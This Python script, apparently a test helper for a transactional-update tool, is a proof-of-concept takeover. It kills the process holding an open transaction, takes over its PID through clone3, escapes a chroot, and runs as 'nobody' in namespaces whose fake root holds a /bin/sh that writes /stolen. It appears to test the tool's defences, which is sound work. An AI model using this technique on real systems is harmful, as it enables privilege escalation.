# Copyright: (c) 2026, the microos.transactional contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Ends the holder of the open transaction, and has an unprivileged user stand in for it:  takeover.py DIRECTORY

The user's process has the same id, and in namespaces of its own a root directory with the file that proves a holder,
and with a /bin/sh that leaves /stolen there. What takes a lucky moment elsewhere is asked of the kernel here.
"""

import ctypes
import os
import signal
import struct
import sys
import time

CLONE3 = 435
MOVE, REC, PRIVATE = 1 << 13, 1 << 14, 1 << 18  # mount(2)
LIBC = ctypes.CDLL(None, use_errno=True)
FAKE = r"""
set -e
root=$(mktemp -d)
mount -t tmpfs tmpfs "$root"
cd "$root"
mkdir -p bin usr run/microos-transactional tmp
mount --rbind /usr usr
ln -s usr/lib lib
ln -s usr/lib64 lib64
: >"run/microos-transactional/$1"
: >run/microos-transactional/inside
printf '#!/usr/bin/dash\n: >/stolen\n' >bin/sh
chmod 755 bin/sh
: >ready
exec chroot "$root" /usr/bin/sleep 1000
"""


def fork(pid):
    """As fork(2), but with a certain process id."""
    wanted = (ctypes.c_int * 1)(pid)
    arguments = struct.pack("=11Q", 0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, ctypes.addressof(wanted), 1, 0)
    child = LIBC.syscall(CLONE3, arguments, ctypes.c_size_t(len(arguments)))
    if child < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return child


def mount(source, target, flags):
    if LIBC.mount(source, target, None, flags, None):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def leave_chroot():
    """The tests run in one, where the kernel gives nobody a user namespace. Have the same root without."""
    os.unshare(os.CLONE_NEWNS)
    mount(None, b"/", REC | PRIVATE)
    here = os.open("/", os.O_RDONLY)
    os.chroot("/usr")
    os.fchdir(here)
    for _level in range(64):
        os.chdir("..")
    os.chroot(".")
    os.fchdir(here)
    mount(b".", b"/", MOVE)
    os.chroot(".")


def stand_in(identity):
    os.setsid()
    quiet = os.open("/tmp/takeover.log", os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o666)
    for descriptor in range(3):
        os.dup2(quiet, descriptor)
    try:
        leave_chroot()
        os.execvp("setpriv", ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", "unshare", "--user",
                              "--map-root-user", "--mount", "sh", "-c", FAKE, "sh", identity])
    except OSError as error:
        print(error, flush=True)
    finally:
        os._exit(1)


def main():
    record = os.path.join(sys.argv[1], "open")
    with open(record, encoding="utf-8") as stream:
        pid, identity = stream.readline().split()[:2]
    os.kill(int(pid), signal.SIGKILL)
    deadline = time.monotonic() + 20
    while True:
        try:
            child = fork(int(pid))
            break
        except OSError:  # it has not ended yet
            if time.monotonic() > deadline:
                raise
            time.sleep(0.02)
    if not child:
        stand_in(identity)
    while not os.path.exists(f"/proc/{child}/root/ready"):
        if time.monotonic() > deadline or os.waitpid(child, os.WNOHANG)[0]:
            with open("/tmp/takeover.log", encoding="utf-8") as stream:
                sys.exit(f"nobody stands in: {stream.read()}")
        time.sleep(0.02)
    os.unlink("/tmp/takeover.log")
    print(child, flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
